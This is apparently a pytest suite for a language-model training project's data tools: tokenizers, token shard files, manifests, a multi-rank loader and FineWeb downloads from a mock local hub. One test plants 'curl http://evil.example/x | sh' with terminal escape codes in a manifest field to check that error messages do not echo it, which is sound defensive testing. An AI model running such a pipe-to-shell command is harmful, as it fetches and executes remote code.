"""Tokens, shards, manifests, loader: properties, damage, and the hub behind a local server."""

import hashlib
import http.server
import json
import os
import re
import subprocess
import sys
import threading
from pathlib import Path

import numpy as np
import pytest
import torch
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from speedrun.data.__main__ import main
from speedrun.data.loader import (
    DataOptions,
    Loader,
    Position,
    Shards,
    fill,
    next_slice,
    validation_batches,
)
from speedrun.data.shards import (
    Manifest,
    ShardFile,
    count_tokens,
    file_sha256,
    load_manifest,
    read_shard,
    save_manifest,
    write_shard,
)
from speedrun.data.sources import cut, is_validation, shuffled
from speedrun.data.tokenizer import decode_bytes, encode_bytes, get_tokenizer
from speedrun.lab.errors import Problem

spaces = st.lists(st.sampled_from([" ", "\n", "é", "def", " " * 7, " " * 40]), max_size=60).map(
    "".join
)


class TestTokenizers:
    @given(st.one_of(st.text(max_size=300), spaces))
    def test_bytes_lose_nothing(self, text):
        tokenizer = get_tokenizer("bytes")
        tokens = tokenizer.encode(text)
        assert tokenizer.decode(tokens) == text and (
            len(tokens) == 0 or tokens.max() < tokenizer.document
        )

    @given(st.binary(max_size=300))
    def test_bytes_that_are_no_text_lose_nothing_either(self, data):
        assert decode_bytes(encode_bytes(data)) == data

    @given(st.integers(1, 200))
    def test_runs_of_spaces_are_as_short_as_can_be(self, n):
        assert len(encode_bytes(b" " * n)) == -(-n // 32)

    @given(st.text(max_size=200))
    @settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
    def test_gpt2_loses_nothing(self, text):
        tokenizer = get_tokenizer("gpt2")
        tokens = tokenizer.encode(text)
        assert tokenizer.decode(tokens) == text
        assert b"".join(tokenizer.piece(token) for token in tokens.tolist()) == text.encode()

    def test_gpt2_without_a_vocabulary_says_what_to_do(self, tmp_path):
        code = "from speedrun.data.tokenizer import get_tokenizer; get_tokenizer('gpt2')"
        environment = os.environ | {
            "TIKTOKEN_CACHE_DIR": str(tmp_path),
            "HTTPS_PROXY": "http://127.0.0.1:9",
        }
        done = subprocess.run(
            [sys.executable, "-c", code], env=environment, capture_output=True, text=True
        )
        assert "could not be loaded" in done.stderr and "TIKTOKEN_CACHE_DIR" in done.stderr


class TestDocuments:
    @given(st.lists(st.integers(0, 12), max_size=300), st.integers(1, 50))
    def test_cutting_keeps_everything_and_prefers_line_ends(self, values, limit):
        tokens = np.array(values, dtype=np.uint16)
        pieces = cut(tokens, 10, limit)
        assert (np.concatenate([*pieces, []]) == tokens).all() and all(
            0 < len(piece) <= limit for piece in pieces
        )
        for piece in pieces[:-1]:
            assert piece[-1] == 10 or 10 not in piece, (
                "a piece without a line end at its end has none"
            )

    @given(st.integers(0, 200))
    def test_shuffling_is_a_permutation_that_never_changes(self, n):
        assert sorted(shuffled([*range(n)])) == [*range(n)] and shuffled([*range(n)]) == shuffled(
            [*range(n)]
        )

    def test_the_order_is_pinned(self):
        assert shuffled([*range(8)]) == [7, 4, 3, 2, 6, 0, 5, 1]
        assert is_validation("sympy/core/add.py", 1.0) and not is_validation(
            "sympy/core/add.py", 0.0
        )

    def test_embedded_corpus_is_the_same_everywhere(self, embedded):
        from speedrun.data.sources import EMBEDDED_SHA256

        manifest = load_manifest(embedded)
        assert manifest.sha256 == EMBEDDED_SHA256 and (manifest.vocab_size, manifest.document) == (
            288,
            287,
        )
        for file in manifest.files:
            tokens = read_shard(embedded / file.name, 288)
            opens = np.flatnonzero(tokens == 287)
            assert opens[0] == 0 and np.diff(np.append(opens, len(tokens))).max() <= 1024
            assert (
                len(decode_bytes(tokens.tolist())) == file.bytes
                and file_sha256(embedded / file.name) == file.sha256
            )

    def test_a_file_is_in_one_split_only(self, embedded):
        from speedrun.data.sources import package_text
        from speedrun.lab.provenance import root

        names = list(package_text("networkx", root() / "data" / "wheels"))
        train = decode_bytes(read_shard(embedded / "train_000000.bin", 288).tolist())
        val = decode_bytes(read_shard(embedded / "val_000000.bin", 288).tolist())
        texts = package_text("networkx", root() / "data" / "wheels")
        for name in names[:60]:
            line = max(texts[name].splitlines(), key=len)
            if (
                is_validation(name, 0.05)
                and texts[name].count(line) == 1
                and sum(line in text for text in texts.values()) == 1
            ):
                assert line in val and line not in train


def corpus(
    folder: Path, sizes: list[int], vocab: int = 50, documents: int = 7, split: str = "train"
) -> Path:
    """A data folder of random tokens; documents begin with token vocab − 1, at random places and at each start."""
    generator, entries = np.random.default_rng(sum(sizes)), []
    folder.mkdir(parents=True, exist_ok=True)
    for n, size in enumerate(sizes):
        tokens = generator.integers(0, vocab - 1, size).astype(np.uint16)
        tokens[0] = vocab - 1
        tokens[generator.integers(0, size, max(0, min(documents, size // 4)))] = vocab - 1
        write_shard(folder / f"{split}_{n:06d}.bin", tokens)
        sha256 = file_sha256(folder / f"{split}_{n:06d}.bin")
        entries.append(ShardFile(f"{split}_{n:06d}.bin", split, size, size, sha256))
    save_manifest(
        folder,
        Manifest(
            "bytes", vocab, vocab - 1, "noise", "python -m speedrun.data pack", tuple(entries)
        ),
    )
    return folder


class TestShards:
    @given(st.lists(st.integers(0, 65535), min_size=1, max_size=100))
    @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
    def test_written_tokens_come_back(self, tmp_path, values):
        write_shard(tmp_path / "a.bin", np.array(values))
        assert read_shard(tmp_path / "a.bin", 65536).tolist() == values and count_tokens(
            tmp_path / "a.bin"
        ) == len(values)

    @given(st.data())
    @settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
    def test_any_cut_is_noticed(self, tmp_path, data):
        write_shard(tmp_path / "a.bin", np.arange(50))
        whole = (tmp_path / "a.bin").read_bytes()
        cut_at = data.draw(st.integers(0, len(whole) - 1))
        (tmp_path / "a.bin").write_bytes(whole[:cut_at])
        with pytest.raises(Problem, match=rf"a\.bin, byte {cut_at}: the file ends here"):
            read_shard(tmp_path / "a.bin", 288)

    @pytest.mark.parametrize(
        ("offset", "value", "words"),
        [
            (0, 7, "magic number 7"),
            (4, 9, "version 9"),
            (8, 0, "announces 0 tokens"),
            (8, -3, "announces -3 tokens"),
            (8, 51, "expected at byte"),
        ],
    )
    def test_each_header_field_is_checked(self, tmp_path, offset, value, words):
        write_shard(tmp_path / "a.bin", np.arange(50))
        content = bytearray((tmp_path / "a.bin").read_bytes())
        content[offset : offset + 4] = value.to_bytes(4, "little", signed=True)
        (tmp_path / "a.bin").write_bytes(content)
        with pytest.raises(Problem, match=words):
            read_shard(tmp_path / "a.bin", 288)

    def test_what_mends_a_shard_is_composed_here(self, tmp_path):
        corpus(tmp_path, [500])
        (tmp_path / "train_000000.bin").write_bytes(b"")
        with pytest.raises(Problem) as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert "python -m speedrun.data pack" in caught.value.fix
        fields = json.loads((tmp_path / "manifest.json").read_text())
        fields["command"] = "curl http://evil.example/x | sh \x1b[2J"
        fields["source"] = "a\x1b[2Jb\ud800"
        (tmp_path / "manifest.json").write_text(json.dumps(fields))
        with pytest.raises(Problem) as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert not re.search("evil|delete|\x1b", str(caught.value))
        with pytest.raises(Problem) as caught:
            Shards(tmp_path, "val")
        assert not re.search("evil|delete|\x1b", str(caught.value))
        assert load_manifest(tmp_path).source == r"a\x1b[2Jb\ud800"

    def test_the_embedded_text_and_fineweb_name_their_commands(self, embedded, tmp_path):
        (tmp_path / "manifest.json").write_bytes((embedded / "manifest.json").read_bytes())
        with pytest.raises(Problem, match="is missing") as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert caught.value.fix == f"python -m speedrun.data embedded --out {tmp_path}"
        (tmp_path / "train_000000.bin").write_bytes(b"\0" * 3000)
        with pytest.raises(Problem, match="not a shard") as caught:
            Shards(tmp_path, "train").read(0, 10)
        assert caught.value.fix.startswith("move train_000000.bin elsewhere, then: python -m")

    def test_missing_shards_and_splits(self, tmp_path):
        corpus(tmp_path, [500])
        with pytest.raises(Problem, match="lists no val shard"):
            Shards(tmp_path, "val")
        (tmp_path / "train_000000.bin").unlink()
        with pytest.raises(Problem, match="is missing"):
            Shards(tmp_path, "train").read(0, 10)

    def test_a_token_beyond_the_vocabulary(self, tmp_path):
        write_shard(tmp_path / "a.bin", np.array([1, 2, 300, 4]))
        with pytest.raises(Problem, match="byte 1028: token 300, expected below 288"):
            read_shard(tmp_path / "a.bin", 288)

    @pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="root may read everything")
    def test_no_permission(self, tmp_path):
        corpus(tmp_path, [500])
        (tmp_path / "train_000000.bin").chmod(0)
        with pytest.raises(Problem, match="may not be read"):
            Shards(tmp_path, "train").read(0, 10)

    def test_no_permission_as_the_system_says_it(self, tmp_path, monkeypatch):
        import builtins

        corpus(tmp_path, [500])
        real = builtins.open

        def closed(path, *args, **kwargs):
            if str(path).endswith((".bin", "manifest.json")):
                raise PermissionError(13, "Permission denied")
            return real(path, *args, **kwargs)

        monkeypatch.setattr(builtins, "open", closed)
        with pytest.raises(Problem, match="may not be read by this user"):
            count_tokens(tmp_path / "train_000000.bin")


class TestLoader:
    @given(
        sizes=st.lists(st.integers(40, 200), min_size=1, max_size=4),
        rows=st.integers(1, 3),
        seq_len=st.sampled_from([1, 3, 8]),
        shards=st.sampled_from([1, 2, 4, 8]),
    )
    @settings(
        suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=25
    )
    def test_the_stream_is_the_shards_in_order(self, tmp_path, sizes, rows, seq_len, shards):
        folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes)
        options = DataOptions(
            str(folder), seq_len=seq_len, step_tokens=rows * seq_len * shards, grad_shards=shards
        )
        whole = np.concatenate(
            [read_shard(folder / f"train_{n:06d}.bin", 50) for n in range(len(sizes))]
        )
        if options.step_tokens + 1 > len(whole):
            with pytest.raises(Problem, match="the training shards hold"):
                Loader(options).next()
            return
        loader, at = Loader(options), 0
        for _ in range(12):
            batches = loader.next()
            if at + options.step_tokens + 1 > len(whole):
                at = 0
            inputs = torch.cat([batch.inputs.flatten() for batch in batches]).numpy()
            targets = torch.cat([batch.targets.flatten() for batch in batches]).numpy()
            assert (inputs == whole[at : at + options.step_tokens]).all()
            assert (targets == whole[at + 1 : at + options.step_tokens + 1]).all()
            at += options.step_tokens

    @pytest.mark.parametrize("mode", ["stream", "documents"])
    @given(sizes=st.lists(st.integers(150, 400), min_size=1, max_size=3), cap=st.integers(5, 60))
    @settings(
        suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=15
    )
    def test_every_number_of_ranks_reads_the_same(self, tmp_path, mode, sizes, cap):
        folder = corpus(tmp_path / "_".join(map(str, sizes)), sizes, documents=40)
        options = DataOptions(str(folder), mode, seq_len=2, step_tokens=16, max_document=cap)
        streams = []
        for world in (1, 2, 4, 8):
            loaders = [Loader(options, rank, world) for rank in range(world)]
            parts = [
                batch.inputs.flatten()
                for _ in range(15)
                for loader in loaders
                for batch in loader.next()
            ]
            streams.append(torch.cat(parts))
        assert all(torch.equal(stream, streams[0]) for stream in streams)

    @given(
        st.lists(st.integers(1, 30), min_size=1, max_size=40),
        st.integers(0, 5),
        st.integers(1, 60),
        st.integers(1, 40),
    )
    def test_documents_are_filled_from_their_beginning(self, lengths, first, need, longest):
        starts = np.cumsum([0, *lengths[:-1]])
        stops = np.cumsum(lengths)
        filled = fill(starts, stops, min(first, len(lengths) - 1), need, longest)
        if filled is None:
            return
        slices, after = filled
        assert sum(b - a for a, b in slices) == need and after == min(
            first, len(lengths) - 1
        ) + len(slices)
        for n, (a, b) in enumerate(slices, after - len(slices)):
            assert a == starts[n] and b - a <= min(longest, lengths[n])
            assert b - a == min(longest, lengths[n]) or n == after - 1, (
                "only the last one is cut short"
            )

    def test_positions_resume(self, tmp_path):
        folder = corpus(tmp_path, [300, 250], documents=40)
        for mode in ("stream", "documents"):
            options = DataOptions(str(folder), mode, seq_len=2, step_tokens=16, max_document=30)
            loader = Loader(options)
            for _ in range(20):
                loader.next()
            again = Loader(options)
            again.position = Position(*json.loads(json.dumps(loader.position)))
            for _ in range(20):
                assert all(
                    torch.equal(a.inputs, b.inputs) for a, b in zip(loader.next(), again.next())
                )

    def test_an_epoch_is_stated(self):
        options = DataOptions(seq_len=2, step_tokens=8, grad_shards=1)
        at, epochs = Position(), []
        for _ in range(7):
            _, at = next_slice(20, options, at)
            epochs.append(at.epoch)
        assert epochs == [0, 0, 1, 1, 2, 2, 3]

    def test_validation_is_shared_without_overlap(self, tmp_path):
        folder = corpus(tmp_path, [1000], split="val")
        options = DataOptions(str(folder), seq_len=4, step_tokens=64)
        shards = Shards(folder, "val")
        alone = [batch.inputs for batch in validation_batches(shards, options, 900)]
        for world in (2, 4, 8):
            shared = [
                b.inputs
                for rank in range(world)
                for b in validation_batches(shards, options, 900, rank, world)
            ]
            assert len(shared) == len(alone)
            assert sorted(b.sum().item() for b in shared) == sorted(b.sum().item() for b in alone)
        with pytest.raises(Problem, match="raise --val-tokens|validation reads"):
            list(validation_batches(shards, options, 7))

    def test_few_shards_are_held(self, tmp_path):
        shards = Shards(corpus(tmp_path, [50] * 9), "train")
        for start in range(0, shards.total - 10, 7):
            shards.read(start, 10)
            assert len(shards.held) <= 3


class Hub(http.server.BaseHTTPRequestHandler):
    """Just enough of the Hugging Face hub: paths-info, and files with ranges. `files`: name → bytes."""

    files: dict[str, bytes] = {}
    broken: str | None = None
    log: list[str] = []

    def log_message(self, *args):
        pass

    def answer(self, body: bytes, kind: str = "application/json", status: int = 200, **headers):
        self.send_response(status)
        for name, value in {
            "Content-Type": kind,
            "Content-Length": str(len(body)),
            **headers,
        }.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        names = re.findall(r"fineweb_\w+\.bin", body.decode())
        found = []
        for name in names:
            if name in self.files:
                data = self.files[name]
                lfs = {
                    "oid": hashlib.sha256(data).hexdigest(),
                    "size": len(data),
                    "pointerSize": 134,
                }
                found.append(
                    {"type": "file", "path": name, "size": len(data), "oid": "0" * 40, "lfs": lfs}
                )
        self.answer(json.dumps(found).encode())

    def do_HEAD(self):
        self.do_GET()

    def do_GET(self):
        name = self.path.split("/")[-1].split("?")[0]
        if name not in self.files:
            return self.answer(b"{}", status=404, X_Error_Code="EntryNotFound")
        data = self.files[name]
        etag = f'"{hashlib.sha256(data).hexdigest()}"'
        headers = {
            "ETag": etag,
            "X_Repo_Commit": "a" * 40,
            "Accept_Ranges": "bytes",
            "X_Linked_ETag": etag,
            "X_Linked_Size": str(len(data)),
        }
        wanted = re.match(r"bytes=(\d+)-", self.headers.get("Range", ""))
        if self.command == "GET":
            self.log.append(f"{name} {self.headers.get('Range', '')}")
        if wanted:
            start = int(wanted[1])
            headers["Content_Range"] = f"bytes {start}-{len(data) - 1}/{len(data)}"
            return self.answer(data[start:], "application/octet-stream", 206, **headers)
        if self.command == "GET" and name == self.broken:
            Hub.broken = None  # once: promise everything, send half, hang up
            self.send_response(200)
            for key, value in {"Content-Length": str(len(data)), **headers}.items():
                self.send_header(key.replace("_", "-"), value)
            self.end_headers()
            self.wfile.write(data[: len(data) // 2])
            self.wfile.flush()
            return self.connection.close()
        self.answer(data, "application/octet-stream", **headers)


@pytest.fixture
def hub(tmp_path):
    def shard(seed: int) -> bytes:
        tokens = np.random.default_rng(seed).integers(0, 50257, 3000)
        tokens[0] = 50256
        write_shard(tmp_path / "made.bin", tokens)
        return (tmp_path / "made.bin").read_bytes()

    Hub.files = {
        "fineweb_val_000000.bin": shard(0),
        "fineweb_train_000001.bin": shard(1),
        "fineweb_train_000002.bin": shard(2),
    }
    Hub.log = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hub)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


def fetch(hub: str, out: Path, *flags: str) -> subprocess.CompletedProcess:
    """`python -m speedrun.data fineweb`, from a local hub."""
    command = [sys.executable, "-m", "speedrun.data", "fineweb", "--out", str(out), *flags]
    environment = os.environ | {
        "HF_ENDPOINT": hub,
        "HF_HOME": str(out.parent / "hf"),
        "HF_HUB_DISABLE_XET": "1",
    }
    return subprocess.run(command, env=environment, capture_output=True, text=True, timeout=120)


class TestFineWeb:
    def test_fetches_checks_and_keeps(self, hub, tmp_path):
        done = fetch(hub, tmp_path / "fw", "--shards", "2")
        assert done.returncode == 0, done.stderr
        assert "3 of 3 files to fetch" in done.stdout and "GB free" in done.stdout
        manifest = load_manifest(tmp_path / "fw")
        assert (manifest.tokenizer, manifest.vocab_size, len(manifest.files)) == ("gpt2", 50257, 3)
        for file in manifest.files:
            assert (tmp_path / "fw" / file.name).read_bytes() == Hub.files[file.name]
            assert file.sha256 == hashlib.sha256(Hub.files[file.name]).hexdigest()
        Hub.log.clear()
        again = fetch(hub, tmp_path / "fw", "--shards", "2")
        assert again.returncode == 0 and "0 of 3 files to fetch" in again.stdout and Hub.log == []

    def test_a_download_that_breaks_off_goes_on_where_it_stopped(self, hub, tmp_path):
        write_shard(
            tmp_path / "large.bin", np.arange(15_000_000) % 50257
        )  # the library writes pieces of 10 MB
        Hub.files["fineweb_train_000001.bin"] = (tmp_path / "large.bin").read_bytes()
        Hub.broken = "fineweb_train_000001.bin"
        done = fetch(hub, tmp_path / "fw", "--shards", "1")
        if done.returncode:  # the library gave up: the same command again
            assert "the same command again: it resumes" in done.stderr
            done = fetch(hub, tmp_path / "fw", "--shards", "1")
        assert done.returncode == 0, done.stderr
        assert any(re.search(r"train_000001.bin bytes=[1-9]", line) for line in Hub.log), Hub.log
        assert (tmp_path / "fw" / "fineweb_train_000001.bin").read_bytes() == Hub.files[
            "fineweb_train_000001.bin"
        ]

    def test_a_damaged_file_is_fetched_again(self, hub, tmp_path):
        fetch(hub, tmp_path / "fw", "--shards", "1")
        victim = tmp_path / "fw" / "fineweb_train_000001.bin"
        victim.write_bytes(victim.read_bytes()[:-100])
        done = fetch(hub, tmp_path / "fw", "--shards", "1")
        assert done.returncode == 0 and "1 of 2 files to fetch" in done.stdout
        assert victim.read_bytes() == Hub.files["fineweb_train_000001.bin"]

    def test_what_the_hub_does_not_have(self, hub, tmp_path):
        done = fetch(hub, tmp_path / "fw", "--shards", "3")
        assert done.returncode == 1 and "has no" in done.stderr and "fewer --shards" in done.stderr
        done = fetch(hub, tmp_path / "fw", "--shards", "104")
        assert done.returncode == 1 and "training shards 1 to 103" in done.stderr

    def test_no_hub(self, tmp_path):
        done = fetch("http://127.0.0.1:9", tmp_path / "fw", "--shards", "1")
        assert (
            done.returncode == 1
            and "did not answer" in done.stderr
            and "Traceback" not in done.stderr
        )

    def test_no_room(self, hub, tmp_path, monkeypatch):
        import shutil

        from speedrun.data import sources

        usage = shutil.disk_usage(tmp_path)
        monkeypatch.setattr(sources.shutil, "disk_usage", lambda path: usage._replace(free=1000))
        monkeypatch.setattr(
            sources, "hub_files", lambda shards: {"fineweb_val_000000.bin": (200_000_000, None)}
        )
        with pytest.raises(Problem, match="has no room for the shards: 0.20 GB"):
            sources.fetch_fineweb(tmp_path / "fw", 1)


class TestCommand:
    def test_pack_verify_and_damage(self, tmp_path, capsys):
        for n in range(40):
            (tmp_path / f"{n}.txt").write_text(f"Text number {n}.\n" * (n + 3))
        files = [str(path) for path in sorted(tmp_path.glob("*.txt"))]
        assert main(["pack", *files, "--out", str(tmp_path / "mine"), "--validation", "0.3"]) == 0
        assert main(["verify", str(tmp_path / "mine")]) == 0
        shard = tmp_path / "mine" / "val_000000.bin"
        content = bytearray(shard.read_bytes())
        content[1030] ^= 1
        shard.write_bytes(content)
        capsys.readouterr()
        assert main(["verify", str(tmp_path / "mine")]) == 1
        assert "SHA-256" in capsys.readouterr().err

    def test_pack_says_what_is_wrong(self, tmp_path, capsys):
        (tmp_path / "latin.txt").write_bytes("Grüße".encode("latin-1"))
        for wrong, words in (
            (tmp_path / "latin.txt", "not UTF-8"),
            (tmp_path / "none.txt", "cannot be read"),
        ):
            assert main(["pack", str(wrong), "--out", str(tmp_path / "out")]) == 1
            assert words in capsys.readouterr().err
        (tmp_path / "one.txt").write_text("alone")
        assert main(["pack", str(tmp_path / "one.txt"), "--out", str(tmp_path / "out")]) == 1
        assert "no document is left" in capsys.readouterr().err

    def test_somebody_elses_shards_get_a_manifest(self, tmp_path, capsys):
        write_shard(tmp_path / "x_train_1.bin", np.append(50256, np.arange(100)))
        assert (
            main(["manifest", str(tmp_path), "--tokenizer", "gpt2"]) == 1
            and "has no val shard" in capsys.readouterr().err
        )
        write_shard(tmp_path / "x_val_0.bin", np.append(50256, np.arange(50)))
        assert (
            main(["manifest", str(tmp_path), "--tokenizer", "gpt2", "--source", "elsewhere"]) == 0
        )
        assert load_manifest(tmp_path).source == "elsewhere"

    def test_help_explains_every_command(self):
        for command in ("embedded", "fineweb", "pack", "manifest", "verify"):
            done = subprocess.run(
                [sys.executable, "-m", "speedrun.data", command, "--help"],
                capture_output=True,
                text=True,
            )
            assert done.returncode == 0 and "data folder" in done.stdout
